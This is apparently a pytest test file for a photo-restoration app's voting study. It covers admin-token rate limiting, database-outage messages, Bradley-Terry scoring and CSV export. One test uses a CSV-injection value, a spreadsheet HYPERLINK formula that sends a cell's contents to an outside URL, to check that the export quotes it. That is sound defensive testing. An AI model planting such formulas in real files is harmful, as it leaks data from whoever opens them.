    first = study_tab.start(ctx, None, Request("a", host="10.0.0.5"))
    study_tab.start(ctx, None, Request("b", host="10.0.0.5"))
    with pytest.raises(gr.Error, match="Too many new participants from your network address"):
        study_tab.start(ctx, None, Request("c", host="10.0.0.5"))
    assert study_tab.start(ctx, first[0], Request("c", host="10.0.0.5"))[0] == first[0]  # returning: fine
    study_tab.start(ctx, None, Request("d", host="10.0.0.6"))  # another address
    assert ctx.study.store.refusals()["too-many-ids"] == 1
    with ctx.study.store.engine.connect() as conn:
        assert conn.execute(select(func.count(distinct(trials_table.c.participant)))).scalar() == 3


def test_study_start_says_when_it_is_not_ready_or_the_database_is_down(tmp_path, postgres):
    ctx = study_context(tmp_path, url=postgres.new_database())
    ctx.study.ready.clear()
    with pytest.raises(gr.Error, match=r"still being prepared \(6 of 6"):
        study_tab.start(ctx, None, Request())
    ctx.study.ready.set()
    _, state, *_ = study_tab.start(ctx, None, Request())
    ctx.study.store.retry_seconds = 0.5
    postgres.stop()
    try:
        with pytest.raises(gr.Error, match="study database cannot be reached right now: the study cannot start"):
            study_tab.start(ctx, None, Request())
        with pytest.raises(gr.Error, match=r"your vote was not saved \(your earlier ones are\); click again"):
            study_tab.vote(ctx, "left", state, "0", Request())
        with pytest.raises(gr.Error, match="cannot be reached right now: the results cannot be read"):
            study_tab.results(ctx, "s3cret", Request())
    finally:
        postgres.start()
    study_tab.vote(ctx, "left", state, "0", Request())  # clicked again: stored
    assert len(ctx.study.store.rows()) == 1


def test_results_need_the_token_and_limit_guessing(tmp_path):
    ctx = study_context(tmp_path, token="pässwört", methods=("smfd", "gfpgan", "codeformer"))
    _, state, *_ = study_tab.start(ctx, None, Request())
    study_tab.vote(ctx, "right", state, "0", Request())
    for wrong in ("wrong", "pässwort", "\udcff", None):  # non-ASCII and broken text: a message
        with pytest.raises(gr.Error, match="Wrong admin token"):
            study_tab.results(ctx, wrong, Request(host="10.0.0.7"))
    summary, wins, bt, refusals, figure, csv_text = study_tab.results(ctx, "pässwört", Request(host="10.0.0.8"))
    assert "1 votes" in summary and "1 participants" in summary
    [voted] = ctx.study.store.rows()
    assert [row[0] for row in wins[2:]] == [m for m in ctx.study.methods if m not in (voted["left"], voted["right"])]
    assert wins[2][1:] == [0, 0, ""]  # a method not voted on yet is listed, not left out
    lines = csv_text.splitlines()
    assert lines[0].startswith("id,participant,trial,image,left,right,chosen,side,response_ms")
    assert len(lines) == 2 and ",right," in lines[1]
    assert dict((r[0], r[1]) for r in refusals)["admin-token"] == 4
    with pytest.raises(gr.Error, match="Wrong admin token"):
        study_tab.results(ctx, "wrong", Request(host="10.0.0.7"))  # the 5th wrong one
    with pytest.raises(gr.Error, match=r"Too many wrong admin tokens: try again in \d+ s"):
        study_tab.results(ctx, "pässwört", Request(host="10.0.0.7"))  # even the right one, for now
    study_tab.results(ctx, "pässwört", Request(host="10.0.0.9"))  # other addresses are not blocked
    assert ctx.study.store.refusals()["rate-limited"] == 1


def test_admin_gate_limits_all_addresses_together_and_forgets_after_the_window():
    gate = AdminGate("t", per_client=2, overall=3, window=0.5)
    for host in ("a", "b", "c"):
        with pytest.raises(Refused, match="Wrong"):
            gate.check("x", host)
    with pytest.raises(Refused, match="Too many"):
        gate.check("t", "a")  # a distributed guess is limited too: a's second try
    gate.check("t", "d")  # the admin at an address without failures is not locked out by others
    with pytest.raises(Refused, match="Wrong"):
        gate.check("x", "e")  # a fresh address gets one try
    with pytest.raises(Refused, match="Too many"):
        gate.check("x", "e")  # and no second while everybody together is over the limit
    time.sleep(0.6)
    gate.check("t", "a")
    # a flood from ever new addresses: each gets its try until FLOOD, then every address waits;
    # memory holds only the newest attempts
    flood = AdminGate("t", per_client=2, overall=3, window=60, flood=50)
    for k in range(50):
        with pytest.raises(Refused, match="Wrong"):
            flood.check("x", f"10.1.{k // 250}.{k % 250}")
    with pytest.raises(Refused, match="Too many"):
        flood.check("t", "10.9.9.9")
    assert len(flood._all._times[""]) == 3 and len(flood._flood._times[""]) == 50
    with pytest.raises(Refused, match="Wrong"):
        AdminGate("").check("", "a")  # no token set: nothing opens


def test_admin_token_from_the_flag_a_file_or_the_environment(tmp_path, monkeypatch):
    monkeypatch.delenv(TOKEN_ENV, raising=False)
    token, given = admin_token()
    assert not given and len(token) >= 16
    assert admin_token("flag") == ("flag", True)
    (tmp_path / "token").write_text("from-a-file\n")
    assert admin_token(None, tmp_path / "token") == ("from-a-file", True)
    monkeypatch.setenv(TOKEN_ENV, "from-env")
    assert admin_token() == ("from-env", True)
    (tmp_path / "empty").write_text("\n")
    with pytest.raises(InputError, match="empty: the admin token file is empty"):
        admin_token(None, tmp_path / "empty")
    with pytest.raises(InputError, match="missing: cannot read the admin token"):
        admin_token(None, tmp_path / "missing")
    with pytest.raises(InputError, match="not both"):
        admin_token("a", tmp_path / "token")
    with pytest.raises(InputError, match="^--admin-token is empty"):  # not silently a random token
        admin_token("  ")


def _vote(participant: str, trial: int, side: str = "left") -> Vote:
    return Vote(participant, trial, f"photo{trial}.png", "smfd", "gfpgan", side, 1234)


# ---------------------------------------------------------------- analysis

def test_bradley_terry_two_methods_matches_the_closed_form():
    votes = [_vote(f"p{i}", 0, "left") for i in range(30)] + [_vote(f"q{i}", 0, "right") for i in range(10)]
    smfd, gfpgan = study_stats.bradley_terry(votes)
    assert (smfd.method, smfd.wins, smfd.comparisons, gfpgan.wins) == ("smfd", 30, 40, 10)
    assert smfd.win_rate == 0.75
    assert smfd.score - gfpgan.score == pytest.approx(np.log(3), abs=0.02)  # logit of 30/40
    assert smfd.score == pytest.approx(-gfpgan.score)
    half_width = 1.959964 * 0.5 / np.sqrt(40 * 0.75 * 0.25)  # Fisher information of the difference
    assert smfd.high - smfd.score == pytest.approx(half_width, rel=0.03)


def test_votes_of_one_participant_do_not_narrow_the_interval_as_independent_ones_would():
    """The same 60 votes (40 for smfd): from 60 people, or 40 of them from one script taking the
    same side; the second is no stronger evidence, and its interval says so."""
    independent = [_vote(f"p{i}", 0, "left" if i < 40 else "right") for i in range(60)]
    one_script = [_vote("bot" if i < 40 else f"p{i}", i, "left" if i < 40 else "right") for i in range(60)]
    (a, _), (b, _) = study_stats.bradley_terry(independent), study_stats.bradley_terry(one_script)
    assert (a.score, a.wins) == pytest.approx((b.score, b.wins))
    assert (b.high - b.low) / (a.high - a.low) == pytest.approx(3.81, abs=0.01)  # the README's figure
    assert b.low < 0 < a.low  # no longer a clear preference


def test_bradley_terry_recovers_strengths_and_handles_a_clean_sweep():
    rng = np.random.default_rng(1)
    strength = {"a": 1.0, "b": 0.0, "c": -1.0}
    votes = []
    for i in range(3000):
        left, right = rng.choice(list(strength), 2, replace=False)
        p_left = 1 / (1 + np.exp(strength[right] - strength[left]))
        votes.append(Vote(f"p{i}", 0, "x.png", left, right, "left" if rng.random() < p_left else "right", 900))
    scores = study_stats.bradley_terry(votes)
    assert [s.method for s in scores] == ["a", "b", "c"]
    for s in scores:
        assert s.low < strength[s.method] < s.high
    sweep = study_stats.bradley_terry([_vote(f"p{i}", 0) for i in range(5)])
    assert all(np.isfinite([s.score, s.low, s.high]).all() for s in sweep)
    assert sweep[0].method == "smfd" and sweep[0].score > 0
    [ax] = study_stats.plot(scores).axes  # one row per method, top to bottom in score order
    rows = sorted(zip(ax.get_yticks(), (t.get_text() for t in ax.get_yticklabels())), reverse=True)
    assert [label for _, label in rows] == ["a", "b", "c"]
    assert np.allclose(ax.lines[0].get_xdata(), [s.score for s in scores])


def test_csv_export_holds_every_vote(study_db):
    """Times in UTC with their zone on both backends (SQLite gave them without one, PostgreSQL in
    its session's zone); a photo name a spreadsheet would run as a formula is quoted."""
    import datetime as dt

    store = VoteStore(study_db)
    formula = '=HYPERLINK("http://example.org/?"&A2,"open").png'
    participant = store.new_participant(["a.png", "b.png", formula], [("smfd", "gfpgan")])
    before = dt.datetime.now(dt.timezone.utc)
    for t in range(3):
        store.vote(participant, t, "right", 1234)
    rows = list(csv.DictReader(io.StringIO(study_stats.csv_text(store.rows()))))
    assert list(rows[0]) == ["id", "participant", "trial", "image", "left", "right", "chosen", "side", "response_ms",
                             "created_at", "instance"]
    assert len(rows) == 3 and all(r["side"] == "right" and r["response_ms"] == "1234" and r["participant"] == participant
                                  for r in rows)
    assert {r["image"] for r in rows} == {"a.png", "b.png", "'" + formula}
    for r in rows:
        when = dt.datetime.fromisoformat(r["created_at"])
        assert when.utcoffset() == dt.timedelta(0) and abs((when - before).total_seconds()) < 30
    berlin = dt.datetime(2026, 12, 7, 16, 0, tzinfo=dt.timezone(dt.timedelta(hours=1)))  # PostgreSQL in another zone
    assert study_stats._cell(berlin) == "2026-12-07T15:00:00+00:00"


def test_demo_options_are_checked_before_the_networks_load(monkeypatch, tmp_path):
    """An examples folder that is not a dataset, or a votes database without a study, is named
    before the models load (seconds) and the study's photos are prepared."""
    from app import main as app_main
    from smfd.errors import InputError

    monkeypatch.setattr(app_main.Restorer, "from_pretrained",
                        lambda *a, **k: pytest.fail("the networks loaded before the options were checked"))
    monkeypatch.setattr(app_main, "default_study_images", lambda: None)
    with pytest.raises(InputError, match="^--study-db: there is no user study"):
        app_main.create_context(study_db=f"sqlite:///{tmp_path / 'votes.sqlite'}")
    with pytest.raises(InputError, match="^--study-new-ids: there is no user study"):
        app_main.create_context(study_new_ids=100)
    assert not (tmp_path / "votes.sqlite").exists()
    with pytest.raises(InputError, match=str(tmp_path / "no-such-folder")):
        app_main.create_context(examples=str(tmp_path / "no-such-folder"))


def test_old_request_folders_go_and_the_study_images_stay(tmp_path):
    """Download folders older than an hour are removed when a new request comes; the user study's
    images, served from the same work folder for as long as the server runs, are not."""
    import app.context

    ctx = make_context(tmp_path)
    first = ctx.output_dir()
    study = ctx.work_dir / "study"
    study.mkdir()
    (study / "served.png").write_bytes(b"png")
    long_ago = time.time() - app.context.OUTPUT_TTL - 60
    for folder in (first, study):
        os.utime(folder, (long_ago, long_ago))
    second = ctx.output_dir()
    assert not first.exists() and second.is_dir() and (study / "served.png").is_file()
    # ... and on a server with no requests: looked for on a timer (here every 10 ms)
    os.utime(second, (long_ago, long_ago))
    stop = ctx.keep_removing_old_requests(every=0.01)
    deadline = time.monotonic() + 10
    while second.exists() and time.monotonic() < deadline:
        time.sleep(0.01)
    stop.set()
    assert not second.exists() and (study / "served.png").is_file()
